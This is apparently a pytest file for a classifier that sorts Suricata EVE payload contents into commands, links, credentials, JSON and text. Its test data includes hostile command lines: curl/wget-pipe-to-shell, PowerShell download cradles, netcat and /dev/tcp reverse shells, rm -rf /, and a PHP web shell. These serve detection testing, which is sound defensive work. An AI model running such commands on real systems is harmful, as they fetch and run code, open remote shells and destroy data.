"""Commands are told from links, credentials, JSON and prose."""

from __future__ import annotations

import time

import pytest

from suricata_eve.analysis.contents import classify

COMMANDS = [
    "id",
    "ls -la",
    "whoami",
    "wget http://192.0.2.1/x.sh",
    "curl -s 192.0.2.1|sh",
    "(curl -s 192.0.2.1||wget -q -O- 192.0.2.1)|bash",
    "nc 192.0.2.66 4444 -e /bin/sh",
    "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
    "cat /etc/passwd",
    "touch /tmp/pwned",
    "ping -c 1 192.0.2.1",
    "echo hello",
    "uname -a;id",
    "rm -rf /",
    "cd /tmp || cd /var/run",
    "cmd /c calc",
    "calc.exe",
    "C:\\Windows\\System32\\certutil.exe -urlcache -f http://192.0.2.1/a a.exe",
    "powershell -nop -w hidden -enc SQBFAFgA",
    "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')",
    "python3 -c 'import os;os.system(\"id\")'",
    "#!/bin/sh\necho x\n",
    "<?php system($_GET['c']); ?>",
    "${jndi}; java -jar /tmp/x.jar",
    '{"cmd":"bash -c id >/dev/null"}',
    "sudo  nohup /usr/bin/wget 192.0.2.1/a",
]
OTHERS = [
    ("find me a pretty flower", "text"),
    ("test this", "text"),
    ("cat pictures; find peace", "text"),
    ("The quick brown fox, and so on.", "text"),
    ("Content-Type: text/html", "text"),
    ("user_id=5&name=foo", "text"),
    ("\u043f\u0440\u0438\u0432\u0435\u0442, \u043c\u0438\u0440", "text"),
    ("http://www.example.org/blog/winter-pruning?q=curl", "link"),
    ("www.example.org/x", "link"),
    ("anna:correct horse battery", "credentials"),
    ("admin:admin", "credentials"),
    ('{"alg":"HS256","typ":"JWT"}', "json"),
    ('{"sub":"42","name":"An', "json"),
    ("[1, 2]", "json"),
    ("[1, 2", "binary"),
    (" $(,048<@DHLPTX\\`dhlptx|", "binary"),
    ("12:30", "binary"),
]


@pytest.mark.parametrize("text", COMMANDS)
def test_command_lines_and_scripts_are_commands(text: str) -> None:
    assert classify(text) == "command"


@pytest.mark.parametrize(("text", "content"), OTHERS)
def test_everything_else_is_what_it_is(text: str, content: str) -> None:
    assert classify(text) == content


def test_bytes_are_binary() -> None:
    assert classify(None) == "binary"


def test_what_was_sent_as_basic_credentials_is_credentials() -> None:
    assert classify("anna:pass:word/with anything", basic=True) == "credentials"
    assert classify("nobody", basic=True) == "text"


@pytest.mark.parametrize(
    "part", ["a;", " ", "\n", "sudo ", "|", "[", "/bin", "-e ", "{", "\\", "echo ", "`", "$("]
)
def test_hostile_text_costs_little(part: str) -> None:
    start = time.perf_counter()
    classify(part * 500_000)

    assert time.perf_counter() - start < 4
